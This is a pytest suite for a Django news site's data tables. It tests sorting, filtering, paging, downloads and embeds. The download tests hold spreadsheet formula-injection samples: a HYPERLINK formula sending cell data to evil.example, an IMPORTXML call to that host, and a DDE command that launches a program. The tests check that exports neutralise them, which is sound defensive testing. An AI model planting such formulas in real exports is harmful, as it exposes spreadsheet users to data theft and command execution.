"""Tables as readers get them: sorting, filtering, pages, downloads, embeds."""

import csv
import io
import json
from datetime import datetime, timedelta

import lxml.html
import openpyxl
import pytest
from django.db import connection
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from articles import services, workflow
from articles.models import PreviewLink
from articles.tables import ContentTableView
from articles.testing.bodies import paragraph, table
from articles.testing.factories import large_body, make_article

SAMPLE_URL = "/world/kazakh-president-joins-closed-csto-talks/"
PORTS_URL = "/world/caspian-ports-busier-autumn/"

# Rows 1-6 (their stored positions) of a table with one column of each kind.
TYPED_COLUMNS = [
    "Name",
    {"label": "Votes", "kind": "number"},
    {"label": "Share", "kind": "percent", "decimals": 1},
    {"label": "Counted", "kind": "date"},
]
TYPED_ROWS = [
    ["Émile", "1,200", "12.5%", "2024-05-31"],
    ["adam", "-3.5", "", "1 March 2023"],
    ["Zoë", "", "-2", "March 5, 2024"],
    ["bob", "15", "100", "12/01/2024"],
    ["Ölaf", "-40", "7", ""],
    ["", "3,400.25", "0.5", "2023"],
]


def typed_table(caption="Typed", **settings):
    return table(
        caption, TYPED_COLUMNS, TYPED_ROWS, source_note="Test source", **settings
    )


def long_table(caption="Long", rows=60):
    return table(
        caption,
        ["Name", {"label": "Value", "kind": "number"}, "Region"],
        [
            [f"Row {n}", str(n * 10), "North" if n % 3 == 0 else "south"]
            for n in range(1, rows + 1)
        ],
        source_note="Test source",
    )


def publish(*blocks, **fields):
    return make_article(
        [{"heading": "", "blocks": list(blocks)}], publish=True, **fields
    )


def parse(response):
    assert response.status_code == 200, response.status_code
    return lxml.html.fromstring(response.content)


def text(element) -> str:
    return " ".join(element.text_content().split())


def screen_table(doc, number=1):
    """The table readers see, in its scrolling region."""
    return doc.get_element_by_id(f"table-{number}").find(".//div[@role='region']/table")


def positions(doc, number=1) -> list[int]:
    """The stored positions of the rows shown, in the order shown: from their
    ids, or, for rows in stored order, as js/row-links.js numbers them."""
    tbody = screen_table(doc, number).find("tbody")
    rows = tbody.findall("tr")
    if tbody.get("data-first-row"):
        assert all(tr.get("id") is None for tr in rows)
        first = int(tbody.get("data-first-row"))
        return [first + n for n in range(len(rows))]
    return [int(tr.get("id").rsplit("-", 1)[1]) for tr in rows]


def first_cells(doc, number=1) -> list[str]:
    return [
        text(tr.xpath("th|td")[0])
        for tr in screen_table(doc, number).findall("tbody/tr")
    ]


def header(doc, number, label):
    for th in screen_table(doc, number).findall("thead/tr/th"):
        if text(th).startswith(label):
            return th
    raise AssertionError(f"No column {label}")


# --- sorting


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("sort", "expected"),
    [
        # Numbers by value: negatives, thousands separators; empty cells last.
        ("c1", [5, 2, 4, 1, 6, 3]),
        ("-c1", [6, 1, 4, 2, 5, 3]),
        # Percents by value, with or without their sign.
        ("c2", [3, 6, 5, 1, 4, 2]),
        ("-c2", [4, 1, 5, 6, 3, 2]),
        # Dates in mixed formats, by time.
        ("c3", [6, 2, 4, 3, 1, 5]),
        ("-c3", [1, 3, 4, 2, 6, 5]),
        # Text ignoring case and accents.
        ("c0", [2, 4, 1, 5, 3, 6]),
        ("-c0", [3, 5, 1, 4, 2, 6]),
    ],
)
def test_columns_sort_by_their_kind_with_empty_cells_last(client, sort, expected):
    """Each kind sorts by its meaning, both ways, and empty cells stay at the end."""
    article = publish(typed_table())
    doc = parse(client.get(f"{article.get_absolute_url()}?t1-sort={sort}"))
    assert positions(doc) == expected


@pytest.mark.django_db
def test_unsorted_table_keeps_its_stored_order_and_bad_sorts_are_ignored(client):
    article = publish(typed_table())
    url = article.get_absolute_url()
    assert positions(parse(client.get(url))) == [1, 2, 3, 4, 5, 6]
    assert positions(parse(client.get(f"{url}?t1-sort=nope"))) == [1, 2, 3, 4, 5, 6]


@pytest.mark.django_db
def test_sorted_header_says_so_and_links_to_the_other_direction(client):
    article = publish(typed_table())
    url = article.get_absolute_url()
    doc = parse(client.get(f"{url}?t1-sort=c1"))
    votes = header(doc, 1, "Votes")
    assert votes.get("aria-sort") == "ascending"
    assert header(doc, 1, "Name").get("aria-sort") is None
    button = votes.find("a")
    assert button.get("class") == "sort-button"
    assert button.get("aria-label") == "Sort by Votes"
    # Query strings alone: the links stay on the page's own path.
    assert button.get("href") == "?t1-sort=-c1#table-1"
    assert header(doc, 1, "Name").find("a").get("href") == "?t1-sort=c0#table-1"

    doc = parse(client.get(f"{url}?t1-sort=-c1"))
    assert header(doc, 1, "Votes").get("aria-sort") == "descending"
    assert header(doc, 1, "Votes").find("a").get("href").endswith("t1-sort=c1#table-1")


def test_links_keep_the_rest_of_the_query_string_encoded_as_django_does():
    """The query strings of a table's links, built without urlencode() for
    its own names, are what the request's QueryDict would encode."""
    query = "t2-q=a%20b%26c&%C3%A9t%C3%A9=%C3%BC+%2B&t1-sort=c0&t1-page=2&x=1&x=2"
    request = RequestFactory().get(f"/desk/article/?{query}")
    view = ContentTableView(
        long_table(), prefix="t1-", anchor="table-1", request=request
    )
    for changes in (
        {"sort": "-c1"},
        {"sort": "c2", "page": "all"},
        {"q": None, "page": None},
        {"page": 3},
        {"page": None, "sort": None},
    ):
        assert view.query_string(**changes) == view.query_with(**changes).urlencode()


@pytest.mark.django_db
def test_each_table_keeps_its_own_sort_in_the_address(client):
    """Sorting one table keeps the other's order, and each link returns to its table."""
    article = publish(typed_table("First"), typed_table("Second"))
    url = article.get_absolute_url()
    doc = parse(client.get(f"{url}?t1-sort=c1&t2-sort=-c0"))
    assert positions(doc, 1) == [5, 2, 4, 1, 6, 3]
    assert positions(doc, 2) == [3, 5, 1, 4, 2, 6]
    second_votes = header(doc, 2, "Votes").find("a").get("href")
    assert second_votes == "?t1-sort=c1&t2-sort=c1#table-2"
    first_name = header(doc, 1, "Name").find("a").get("href")
    assert first_name == "?t1-sort=c0&t2-sort=-c0#table-1"
    canonical = doc.find(".//link[@rel='canonical']").get("href")
    assert canonical == f"http://testserver{url}"
    # Following table 2's link changes table 2 only.
    doc = parse(client.get(url + second_votes.split("#")[0]))
    assert positions(doc, 1) == [5, 2, 4, 1, 6, 3]
    assert positions(doc, 2) == [5, 2, 4, 1, 6, 3]


# --- long tables: filter and pages


@pytest.mark.django_db
def test_long_table_is_shown_25_rows_a_page(client):
    article = publish(long_table(), typed_table("Short"))
    url = article.get_absolute_url()
    doc = parse(client.get(url))
    assert positions(doc) == list(range(1, 26))
    nav = doc.get_element_by_id("table-1").find(".//nav[@class='table-pages']")
    links = ["1", "2", "3", "Next", "All rows"]
    assert [text(a) for a in nav.findall(".//a")] == links
    current = nav.find(".//a[@aria-current='page']")
    assert current.text == "1" and current.get("href") is None  # leads nowhere
    assert nav.findall(".//a")[1].get("href") == "?t1-page=2#table-1"
    assert positions(parse(client.get(f"{url}?t1-page=2"))) == list(range(26, 51))
    assert positions(parse(client.get(f"{url}?t1-page=3"))) == list(range(51, 61))
    # A page past the end shows the last; a nonsense page the first.
    assert positions(parse(client.get(f"{url}?t1-page=99"))) == list(range(51, 61))
    assert positions(parse(client.get(f"{url}?t1-page=x"))) == list(range(1, 26))
    # Sorting applies to the whole table before it is cut into pages.
    doc = parse(client.get(f"{url}?t1-sort=-c1&t1-page=3"))
    assert positions(doc) == list(range(10, 0, -1))


@pytest.mark.django_db
def test_short_tables_have_neither_filter_nor_pages(client):
    article = publish(table("Short", ["A"], [[str(n)] for n in range(25)], "Src"))
    doc = parse(client.get(article.get_absolute_url()))
    figure = doc.get_element_by_id("table-1")
    assert figure.findall(".//form") == []
    assert figure.findall(".//nav") == []
    assert figure.find_class("print-only") == []
    assert len(screen_table(doc).findall("tbody/tr")) == 25


@pytest.mark.django_db
def test_filter_keeps_rows_containing_the_text_in_any_cell(client):
    """Case does not matter; the rows found are paged; other tables are untouched."""
    article = publish(long_table(), long_table("Other"))
    url = article.get_absolute_url()
    doc = parse(client.get(f"{url}?t1-q=NORTH&t2-page=2"))
    assert positions(doc) == list(range(3, 61, 3))
    assert positions(doc, 2) == list(range(26, 51))
    status = doc.get_element_by_id("table-1").find_class("table-status")[0]
    assert text(status) == "20 of 60 rows contain “NORTH”."
    assert doc.get_element_by_id("table-1").findall(".//nav") == []

    doc = parse(client.get(f"{url}?t1-q=south&t1-page=2"))
    assert len(positions(doc)) == 15  # 40 rows: 25, then 15
    assert "Rows 26 to 40 of 40." in text(
        doc.get_element_by_id("table-1").find_class("table-status")[0]
    )
    # Numbers are found as readers see them, too.
    doc = parse(client.get(f"{url}?t1-q=Row+5"))
    assert positions(doc) == [5, *range(50, 60)]
    doc = parse(client.get(f"{url}?t1-q=nothing+like+this"))
    assert text(screen_table(doc).find("tbody")) == "No rows match."


@pytest.mark.django_db
def test_filter_form_keeps_the_other_tables_state_and_returns_to_its_table(client):
    article = publish(long_table(), long_table("Other"))
    url = article.get_absolute_url()
    doc = parse(client.get(f"{url}?t1-sort=-c1&t1-page=2&t1-q=row&t2-sort=c0"))
    form = doc.get_element_by_id("table-1").find(".//form")
    assert (form.get("method"), form.get("action")) == ("get", f"{url}#table-1")
    field = form.find(".//input[@type='search']")
    assert (field.get("name"), field.get("value")) == ("t1-q", "row")
    assert doc.find(f".//label[@for='{field.get('id')}']") is not None
    hidden = {
        (i.get("name"), i.get("value"))
        for i in form.findall(".//input[@type='hidden']")
    }
    # The page starts again at 1 with a new filter; the sort stays.
    assert hidden == {("t1-sort", "-c1"), ("t2-sort", "c0")}


@pytest.mark.django_db
def test_a_table_is_sent_once_and_a_paged_one_prints_where_every_row_is(client):
    """No second, print-only copy: print shows the page on screen and says
    where all the rows are (the same sort and filter, every row on one page)."""
    article = publish(long_table(), typed_table("Short"))
    url = article.get_absolute_url()
    doc = parse(client.get(f"{url}?t1-q=row&t1-sort=-c1"))
    assert len(doc.xpath("//table")) == 2
    figure = doc.get_element_by_id("table-1")
    (note,) = figure.find_class("print-only")
    everything = f"http://testserver{url}?t1-q=row&t1-sort=-c1&t1-page=all#table-1"
    assert text(note) == f"Rows 1 to 25 of 60 are printed here. Every row: {everything}"
    assert doc.get_element_by_id("table-2").find_class("print-only") == []

    doc = parse(client.get(everything.removeprefix("http://testserver")))
    assert positions(doc) == list(range(60, 0, -1))  # sorted, filtered, all
    figure = doc.get_element_by_id("table-1")
    assert figure.find_class("print-only") == []
    assert text(figure.find_class("table-status")[0]).endswith("All 60 rows.")
    nav = figure.find(".//nav[@class='table-pages']")
    (current,) = nav.findall(".//a[@aria-current='page']")
    assert text(current) == "All rows"
    # Sorting keeps every row shown; a page number goes back to pages.
    sort = header(doc, 1, "Name").find("a").get("href")
    assert "t1-page=all" in sort
    assert positions(parse(client.get(f"{url}?t1-page=all&t1-sort=c1"))) == list(
        range(1, 61)
    )


# --- display


@pytest.mark.django_db
def test_numbers_show_with_their_decimals_and_unit_right_aligned(client):
    article = publish(
        table(
            "Money",
            [
                "Item",
                {"label": "Length", "kind": "number", "unit": "km", "decimals": 2},
                {"label": "Change", "kind": "percent", "decimals": 1},
                {"label": "Cost", "kind": "currency", "unit": "$", "decimals": 0},
            ],
            [["Road", "1234.5", "-3", "1200000"], ["Rail", "12", "0.25", "99.6"]],
            source_note="Test source",
        )
    )
    doc = parse(client.get(article.get_absolute_url()))
    cells = [
        [text(cell) for cell in tr.xpath("th|td")]
        for tr in screen_table(doc).findall("tbody/tr")
    ]
    assert cells == [
        ["Road", "1,234.50", "-3.0%", "$1,200,000"],
        ["Rail", "12.00", "0.3%", "$100"],
    ]
    assert [text(th) for th in screen_table(doc).findall("thead/tr/th")] == [
        "Item",
        "Length (km)",
        "Change",
        "Cost",
    ]
    assert header(doc, 1, "Length").find(".//span").get("class") == "unit"
    row = screen_table(doc).find("tbody/tr")
    # Number cells (`num`) never wrap.
    assert [cell.get("class") for cell in row.xpath("th|td")] == [
        None,  # left: the default, no class
        "align-right num",
        "align-right num",
        "align-right num",
    ]


@pytest.mark.django_db
def test_first_column_names_rows_only_when_the_table_says_so(client):
    article = publish(
        typed_table("Named rows"), typed_table("Plain rows", row_headers=False)
    )
    doc = parse(client.get(article.get_absolute_url()))
    named, plain = screen_table(doc, 1), screen_table(doc, 2)
    assert named.find("caption").text == "Named rows"
    assert all(th.get("scope") == "col" for th in named.findall("thead/tr/th"))
    first = named.find("tbody/tr")
    assert [c.tag for c in first.xpath("th|td")] == ["th", "td", "td", "td"]
    assert first.find("th").get("scope") == "row"
    assert [c.tag for c in plain.find("tbody/tr").xpath("th|td")] == ["td"] * 4


@pytest.mark.django_db
def test_source_shows_its_link_and_retrieval_date(client):
    article = publish(
        typed_table(
            source_url="https://stats.example.org/votes", source_retrieved="2024-03-05"
        )
    )
    doc = parse(client.get(article.get_absolute_url()))
    source = doc.get_element_by_id("table-1").find("figcaption")
    assert text(source) == "Source: Test source, retrieved 5 March 2024"
    assert source.find("a").get("href") == "https://stats.example.org/votes"
    assert source.find("time").get("datetime") == "2024-03-05"


@pytest.mark.django_db
def test_rows_have_stable_anchors_and_the_label_of_their_links(client):
    """Each row has its anchor as id; its "#" link (js/row-links.js, checked
    in test_tables_browser.py) is not sent with every row, only its label."""
    article = publish(typed_table())
    doc = parse(client.get(f"{article.get_absolute_url()}?t1-sort=c1"))
    rows = screen_table(doc).findall("tbody/tr")
    assert [row.get("id") for row in rows][:2] == ["table-1-row-5", "table-1-row-2"]
    assert screen_table(doc).find("tbody").get("data-row-link") == "Link to row"
    assert doc.xpath("//tbody//a") == []
    assert text(rows[0].xpath("th")[0]) == "Ölaf"


@pytest.mark.django_db
def test_rows_in_stored_order_are_numbered_in_the_browser(client):
    """Their ids are js/row-links.js's to give, from the first row's number;
    a sorted or filtered view sends them (checked above)."""
    article = publish(long_table(rows=60))
    url = article.get_absolute_url()
    for query, first in (("", 1), ("?t1-page=2", 26), ("?t1-page=all", 1)):
        tbody = screen_table(parse(client.get(f"{url}{query}"))).find("tbody")
        assert tbody.get("data-first-row") == str(first), query
        assert [tr.get("id") for tr in tbody.findall("tr")] == [None] * len(tbody)
    filtered = screen_table(parse(client.get(f"{url}?t1-q=Row 5")))
    assert filtered.find("tbody").get("data-first-row") is None
    assert filtered.find("tbody/tr").get("id") == "table-1-row-5"


# --- downloads


def download(client, article, revision, number, export_format):
    article_url = article.get_absolute_url()
    return client.get(f"{article_url}r{revision}/table-{number}.{export_format}")


@pytest.mark.django_db
def test_csv_download_has_every_row_in_stored_order_numbers_as_numbers(client):
    """Numbers are plain, as typed, with at least the column's decimals."""
    article = publish(paragraph("Intro"), typed_table("Votes by region, 2024"))
    response = download(client, article, 1, 1, "csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="{article.slug}-r1-votes-by-region-2024.csv"'
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
    assert rows == [
        ["Name", "Votes", "Share (%)", "Counted"],
        ["Émile", "1200", "12.5", "2024-05-31"],
        ["adam", "-3.5", "", "2023-03-01"],
        ["Zoë", "", "-2.0", "2024-03-05"],
        ["bob", "15", "100.0", "2024-01-12"],
        ["Ölaf", "-40", "7.0", ""],
        ["", "3400.25", "0.5", "2023-01-01"],
    ]


@pytest.mark.django_db
def test_xlsx_download_keeps_numbers_as_numbers(client):
    """Numbers and dates are typed cells; percents are fractions shown as %."""
    article = publish(typed_table("Votes by region, 2024"))
    response = download(client, article, 1, 1, "xlsx")
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml"
    )
    assert response["Content-Disposition"].endswith('-votes-by-region-2024.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.values)
    assert rows[0] == ("Name", "Votes", "Share (%)", "Counted")
    assert rows[1] == ("Émile", 1200, 0.125, datetime(2024, 5, 31))
    assert rows[6] == (None, 3400.25, 0.005, datetime(2023, 1, 1))
    assert isinstance(rows[2][1], float) and rows[2][1] == -3.5
    assert sheet.title == "Votes by region, 2024"


@pytest.mark.django_db
def test_xlsx_download_does_not_run_formulas(client):
    article = publish(table("Sums", ["Note"], [["=1+1"]], source_note="Src"))
    sheet = openpyxl.load_workbook(
        io.BytesIO(download(client, article, 1, 1, "xlsx").content)
    ).active
    assert sheet["A2"].data_type != "f"


# Text that spreadsheets run as a formula, typed into cells and labels.
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")'
IMPORTXML = '=IMPORTXML("https://evil.example/", "//a")'
DDE = "=cmd|' /C calc'!A0"


def formula_table():
    return table(
        "Formulas",
        [DDE, "@SUM(1+1)", {"label": "Change", "kind": "number"}],
        [
            [HYPERLINK, "-1+1", "-3.5"],
            [IMPORTXML, "+1", "12"],
            ["@SUM(1+1)", "plain", "-40"],
        ],
        source_note="Src",
    )


@pytest.mark.django_db
def test_csv_download_keeps_formula_like_text_as_text(client):
    """Labels and text cells starting =, +, -, @ get an apostrophe; numbers do not."""
    article = publish(formula_table())
    content = download(client, article, 1, 1, "csv").content.decode("utf-8")
    rows = list(csv.reader(io.StringIO(content)))
    assert rows == [
        [f"'{DDE}", "'@SUM(1+1)", "Change"],
        [f"'{HYPERLINK}", "'-1+1", "-3.5"],
        [f"'{IMPORTXML}", "'+1", "12"],
        ["'@SUM(1+1)", "plain", "-40"],
    ]
    assert [float(row[2]) for row in rows[1:]] == [-3.5, 12, -40]


@pytest.mark.django_db
def test_xlsx_download_keeps_formula_like_text_intact_in_text_cells(client):
    """Nothing is cut off: such text is a string cell, marked to stay text."""
    article = publish(formula_table())
    sheet = openpyxl.load_workbook(
        io.BytesIO(download(client, article, 1, 1, "xlsx").content)
    ).active
    assert list(sheet.values) == [
        (DDE, "@SUM(1+1)", "Change"),
        (HYPERLINK, "-1+1", -3.5),
        (IMPORTXML, "+1", 12),
        ("@SUM(1+1)", "plain", -40),
    ]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type in ("s", "n"), cell.coordinate
            if isinstance(cell.value, str):
                assert cell.quotePrefix == cell.value.startswith(("=", "+", "-", "@"))
    assert sheet["C2"].data_type == "n" and sheet["A1"].font.bold


@pytest.mark.django_db
def test_xlsx_download_leaves_out_control_characters_a_workbook_cannot_hold(client):
    article = publish(table("Odd", ["Name\x01"], [["a\x02b"]], source_note="Src"))
    response = download(client, article, 1, 1, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert list(sheet.values) == [("Name",), ("ab",)]


@pytest.mark.django_db
def test_json_download_keeps_formula_like_text_exact(client):
    article = publish(formula_table())
    data = json.loads(download(client, article, 1, 1, "json").content)["data"]
    assert data[0] == {DDE: HYPERLINK, "@SUM(1+1)": "-1+1", "Change": -3.5}


@pytest.mark.django_db
def test_json_download_is_one_object_per_row(client):
    article = publish(typed_table())
    response = download(client, article, 1, 1, "json")
    assert response["Content-Type"] == "application/json"
    data = json.loads(response.content)["data"]
    assert data[0] == {
        "Name": "Émile",
        "Votes": 1200,
        "Share": 12.5,
        "Counted": "2024-05-31",
    }
    assert [row["Votes"] for row in data] == [1200, -3.5, None, 15, -40, 3400.25]


@pytest.mark.django_db
def test_article_page_links_the_live_revisions_downloads(client):
    article = publish(typed_table(), typed_table("Second"))
    doc = parse(client.get(article.get_absolute_url()))
    base = f"/{article.desk.slug}/{article.slug}/r1"
    links = doc.get_element_by_id("table-2").find_class("table-downloads")[0]
    assert [(a.text, a.get("href")) for a in links.findall("a")] == [
        ("CSV", f"{base}/table-2.csv"),
        ("XLSX", f"{base}/table-2.xlsx"),
        ("JSON", f"{base}/table-2.json"),
    ]
    for a in links.findall("a"):
        assert client.get(a.get("href")).status_code == 200
    # The embed page is offered by the table's "Share / embed" page.
    share = doc.get_element_by_id("table-2").find_class("table-share-link")[0]
    page = f"/{article.desk.slug}/{article.slug}/table-2/"
    assert share.find("a").get("href") == f"{page}share/"
    code = parse(client.get(f"{page}share/")).get_element_by_id("table-2-embed")
    assert f'src="http://testserver{page}embed/"' in code.text


@pytest.mark.django_db
def test_download_of_a_revision_stays_the_same_after_a_newer_one_is_published(
    client, editor, moderator
):
    article = publish(typed_table())
    first = download(client, article, 1, 1, "csv").content
    services.replace_body(
        article,
        [{"heading": "", "blocks": [table("New", ["Name"], [["x"]], "Src")]}],
    )
    workflow.revise(article, by=editor)
    # Revision 2 is only a draft: nobody approved it.
    assert download(client, article, 2, 1, "csv").status_code == 404
    workflow.submit(article, by=editor)
    article = workflow.approve(article, by=moderator)
    assert article.live_revision.number == 2

    assert download(client, article, 1, 1, "csv").content == first
    assert download(client, article, 2, 1, "csv").content.decode().split() == [
        "Name",
        "x",
    ]
    doc = parse(client.get(article.get_absolute_url()))
    assert (
        doc.find(".//p[@class='table-downloads']/a")
        .get("href")
        .endswith("/r2/table-1.csv")
    )


@pytest.mark.django_db
def test_downloads_are_not_found_unless_published_and_approved(client, moderator):
    draft = make_article([{"heading": "", "blocks": [typed_table()]}])
    assert download(client, draft, 1, 1, "csv").status_code == 404
    article = publish(typed_table())
    assert download(client, article, 1, 2, "csv").status_code == 404  # no table 2
    assert download(client, article, 1, 1, "pdf").status_code == 404
    assert download(client, article, 7, 1, "csv").status_code == 404
    workflow.unpublish(article, by=moderator)
    for export_format in ("csv", "xlsx", "json"):
        assert download(client, article, 1, 1, export_format).status_code == 404


@pytest.mark.django_db
def test_download_costs_two_queries_whatever_the_table(
    client, django_assert_num_queries
):
    small = publish(typed_table())
    big = make_article(large_body(rows=200), publish=True)
    for article in (small, big):
        with django_assert_num_queries(2):
            assert download(client, article, 1, 1, "xlsx").status_code == 200


@pytest.mark.django_db
def test_previews_offer_no_downloads(client, editor):
    article = make_article([{"heading": "", "blocks": [typed_table()]}])
    link = PreviewLink.objects.create(
        article=article,
        revision=article.revisions.get(),
        expires_at=timezone.now() + timedelta(days=1),
    )
    doc = parse(client.get(f"/preview/{link.token}/"))
    assert positions(doc) == [1, 2, 3, 4, 5, 6]
    assert doc.find_class("table-downloads") == []


# --- embed


@pytest.mark.django_db
def test_embed_page_shows_the_table_its_source_and_a_way_back(client):
    article = publish(
        paragraph("Intro"),
        typed_table("First"),
        typed_table(
            "Second",
            source_url="https://stats.example.org/",
            source_retrieved="2024-03-05",
        ),
        title="Election results",
        source_credit="Caspian Post",
    )
    response = client.get(f"/{article.desk.slug}/{article.slug}/table-2/embed/")
    assert "X-Frame-Options" not in response
    doc = parse(response)
    assert doc.find(".//header") is None and doc.find(".//nav") is None  # no site
    assert len(doc.findall(".//table")) == 1
    assert doc.find(".//table/caption").text == "Second"
    source = doc.find(".//figcaption")
    assert text(source) == "Source: Test source, retrieved 5 March 2024"
    assert source.find("a").get("href") == "https://stats.example.org/"
    assert "Caspian Post" in text(doc.find_class("embed-credit")[0])
    back = doc.find_class("embed-credit")[0].find("a")
    assert back.get("href") == f"http://testserver{article.get_absolute_url()}#table-2"
    assert back.get("target") == "_top"
    assert text(back) == "Election results"
    assert "Embed" not in [a.text for a in doc.findall(".//a")]
    # Sorting works inside the frame too.
    doc = parse(
        client.get(f"/{article.desk.slug}/{article.slug}/table-2/embed/?t2-sort=c1")
    )
    assert positions(doc, 2) == [5, 2, 4, 1, 6, 3]
    # The article page itself may not be framed.
    assert client.get(article.get_absolute_url())["X-Frame-Options"] == "DENY"


@pytest.mark.django_db
def test_embed_shows_only_the_live_revision(client, editor, moderator):
    article = publish(typed_table("Approved"))
    services.replace_body(
        article, [{"heading": "", "blocks": [typed_table("Not approved yet")]}]
    )
    workflow.revise(article, by=editor)
    embed = f"/{article.desk.slug}/{article.slug}/table-1/embed/"
    with CaptureQueriesContext(connection) as queries:
        doc = parse(client.get(embed))
    assert len(queries) == 1
    assert doc.find(".//caption").text == "Approved"
    assert client.get(embed.replace("table-1", "table-2")).status_code == 404
    workflow.unpublish(article, by=moderator)
    assert client.get(embed).status_code == 404


# --- cost


@pytest.mark.django_db
def test_article_page_costs_the_same_few_queries_sorted_or_filtered(
    client, demo_content
):
    big = make_article(large_body(rows=60), publish=True, title="A very long article")
    urls = [
        SAMPLE_URL,
        f"{SAMPLE_URL}?t1-sort=-c0&t2-sort=c2",
        big.get_absolute_url(),
        f"{big.get_absolute_url()}?t1-sort=-c3&t1-q=r1&t2-page=2&t10-q=c7",
    ]
    counts = []
    for url in urls:
        with CaptureQueriesContext(connection) as queries:
            parse(client.get(url))
        counts.append(len(queries))
    assert len(set(counts)) == 1 and counts[0] <= 5, counts


# --- the sample article


@pytest.mark.django_db
def test_sample_articles_tables_render_sort_and_download(client, demo_content):
    doc = parse(client.get(SAMPLE_URL))
    first, second = screen_table(doc, 1), screen_table(doc, 2)
    assert first.find("caption").text == "Proposed enhancements by security focus area"
    assert (
        second.find("caption").text == "Alliance cooperation before and after the talks"
    )
    assert [text(th) for th in first.findall("thead/tr/th")] == [
        "Security Focus Area",
        "Proposed Enhancement",
        "Timeline",
    ]
    assert all(th.get("scope") == "col" for th in first.findall("thead/tr/th"))
    assert all(tr.find("th").get("scope") == "row" for tr in first.findall("tbody/tr"))
    assert [
        [text(cell) for cell in tr.xpath("th|td")] for tr in second.findall("tbody/tr")
    ] == [
        [
            "Joint Military Exercises",
            "Quarterly, limited scope",
            "Increased frequency and scale",
        ],
        [
            "Intelligence Sharing",
            "Ad hoc and informal",
            "Structured, real-time exchange",
        ],
        ["Cybersecurity Cooperation", "Minimal coordination", ""],
    ]
    # Short tables: no filter box, no pages.
    assert doc.find(".//form[@class='table-filter']") is None

    doc = parse(client.get(f"{SAMPLE_URL}?t2-sort=c0"))
    assert first_cells(doc, 2) == [
        "Cybersecurity Cooperation",
        "Intelligence Sharing",
        "Joint Military Exercises",
    ]
    assert first_cells(doc, 1) == [
        "Intelligence Sharing",
        "Rapid Response Teams",
        "Cyber Defense",
    ]
    # The lost cell sorts last, whichever way.
    doc = parse(client.get(f"{SAMPLE_URL}?t2-sort=-c2"))
    assert first_cells(doc, 2)[-1] == "Cybersecurity Cooperation"

    link = doc.get_element_by_id("table-2").find(".//p[@class='table-downloads']/a")
    response = client.get(link.get("href"))
    assert response["Content-Disposition"] == (
        'attachment; filename="kazakh-president-joins-closed-csto-talks-'
        'r1-alliance-cooperation-before-and-after-the-talks.csv"'
    )
    assert list(csv.reader(io.StringIO(response.content.decode()))) == [
        ["Aspect", "Current Status", "Post-Talk Outlook"],
        [
            "Joint Military Exercises",
            "Quarterly, limited scope",
            "Increased frequency and scale",
        ],
        [
            "Intelligence Sharing",
            "Ad hoc and informal",
            "Structured, real-time exchange",
        ],
        ["Cybersecurity Cooperation", "Minimal coordination", ""],
    ]


@pytest.mark.django_db
def test_demo_ports_table_sorts_by_value_and_shows_units(client, demo_content):
    doc = parse(client.get(f"{PORTS_URL}?t1-sort=-c2"))
    assert first_cells(doc) == ["Aktau", "Baku", "Turkmenbashi"]
    assert [text(th) for th in screen_table(doc).findall("thead/tr/th")] == [
        "Port",
        "Cargo (million t)",
        "Change",
    ]
    row = screen_table(doc).find("tbody/tr")
    assert [text(cell) for cell in row.xpath("th|td")] == ["Aktau", "2.4", "6.2%"]
